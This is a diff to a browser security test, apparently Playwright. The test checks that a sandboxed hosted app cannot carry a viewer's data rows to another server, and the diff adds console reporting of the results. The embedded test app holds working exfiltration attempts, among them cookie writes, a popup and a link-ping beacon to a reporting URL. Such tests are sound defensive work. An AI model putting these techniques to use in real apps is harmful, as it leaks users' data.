@@ -152,6 +152,9 @@ const EXFIL_APP = String.raw`<pre id="out">{}</pre>
     await attempt("cookie", () => { document.cookie = "d=" + D; return document.cookie; });
     await attempt("popup", () => { const w = window.open(u("popup")); return w ? "opened" : Promise.reject(new TypeError("null")); });
     note("finished", true);
+    // Reported on the console too: the navigations below replace this document soon after, and a
+    // busy test runner may read #out too late.
+    console.log("svc-exfil-results " + JSON.stringify(results));
     svc.loaded();
     // (A link in the app's own frame would replace this document: it goes to a nested frame.)
     attempt("ping", () => { add('<iframe name="pinged"></iframe>'); const a = add('<a href="about:blank" target="pinged" ping="' + u("ping") + '">x</a>'); a.click(); return wait(300).then(() => "clicked"); });
@@ -189,9 +192,18 @@ test("an app cannot carry the viewer's rows to another server: import(), script 
         .replace(/__REPORT__/g, String(reportId)),
       manifest: { dependencies: { vega: "5" } },
     }));
-    const app = await openInHost(page, publicId);
-    await expect(app.locator("#out")).toContainText('"finished":true', { timeout: 60_000 });
-    const results = JSON.parse((await app.locator("#out").textContent())!) as Record<string, unknown>;
+    const reported = new Promise<Record<string, unknown>>((resolve) => {
+      page.on("console", (message) => {
+        const text = message.text();
+        if (text.startsWith("svc-exfil-results ")) resolve(JSON.parse(text.slice("svc-exfil-results ".length)) as Record<string, unknown>);
+      });
+    });
+    await openInHost(page, publicId);
+    const results = await Promise.race([
+      reported,
+      new Promise<never>((_, reject) => setTimeout(() => reject(new Error("the app reported no results in 60 s")), 60_000)),
+    ]);
+    expect(results.finished).toBe(true);
     // The app had the rows, and every attempt ran.
     expect(Number(results.rows)).toBeGreaterThan(0);
     expect(Object.keys(results).length).toBeGreaterThan(40);
